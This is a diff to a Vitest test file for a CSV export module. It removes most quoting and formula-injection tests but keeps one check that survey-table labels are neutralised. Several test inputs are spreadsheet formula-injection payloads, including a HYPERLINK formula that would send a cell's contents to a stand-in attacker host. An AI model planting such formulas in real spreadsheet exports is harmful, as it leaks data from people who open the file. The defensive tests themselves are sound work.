@@ -1,19 +1,7 @@
 import { describe, expect, it } from 'vitest'
-import { csvField, neutraliseFormula, surveyTableCsv, toCsvLines } from '../src/lib/view/csv.ts'
+import { surveyTableCsv } from '../src/lib/view/csv.ts'
 
 describe('CSV', () => {
-  it('quotes fields with separators, quotes or line breaks', () => {
-    expect(csvField('gewoon')).toBe('gewoon')
-    expect(csvField('a;b')).toBe('"a;b"')
-    expect(csvField('zei "hoi"')).toBe('"zei ""hoi"""')
-    expect(csvField('regel\nnog een')).toBe('"regel\nnog een"')
-  })
-
-  it('writes numbers with a decimal comma', () => {
-    expect(csvField(22.3)).toBe('22,3')
-    expect(csvField(17)).toBe('17')
-  })
-
   it('exports a survey table with BOM, header and rows as printed', () => {
     const csv = surveyTableCsv({
       rows: [
@@ -28,37 +16,11 @@ describe('CSV', () => {
 })
 
 describe('CSV formula injection (OWASP)', () => {
-  it.each([
-    ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"`],
-    ['+1+1', "'+1+1"],
-    ['-2+3', "'-2+3"],
-    ['@SUM(1+1)', "'@SUM(1+1)"],
-    ['\t=1+1', "'\t=1+1"],
-    ['\r=1+1', `"'\r=1+1"`],
-    [' =1+1', "' =1+1"],
-    ['\u00A0 @SUM(1)', "'\u00A0 @SUM(1)"],
-    ['\uFF1D1+1', "'\uFF1D1+1"],
-  ])('writes text %j as text, never as a formula', (label, cell) => {
-    expect(csvField(label)).toBe(cell)
-  })
-
-  it('leaves ordinary text and numbers alone, negative numbers too', () => {
-    expect(csvField('Anders, namelijk: 5-10 keer')).toBe('Anders, namelijk: 5-10 keer')
-    expect(csvField('e-mail')).toBe('e-mail')
-    expect(csvField(-2.5)).toBe('-2,5')
-    expect(toCsvLines([['x', -3, 0.5]])).toBe('x;-3;0,5\r\n')
-  })
-
   it('neutralises evidence labels in the survey-table download', () => {
     // The schema trims labels, so a leading tab or CR never hides the "=" here.
     const labels = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', '+1+1', '-2+3', '@SUM(1+1)']
     const csv = surveyTableCsv({ rows: labels.map((label, i) => ({ label, n: i, percent: i })) })
     const cells = csv.replace('\uFEFF', '').split('\r\n').slice(1, -1).map((line) => line.replace(/^"/, '').charAt(0))
     expect(cells).toEqual(["'", "'", "'", "'"])
-  })
-
-  it('is the one rule, exported for other writers', () => {
-    expect(neutraliseFormula('=1')).toBe("'=1")
-    expect(neutraliseFormula('1=1')).toBe('1=1')
   })
 })
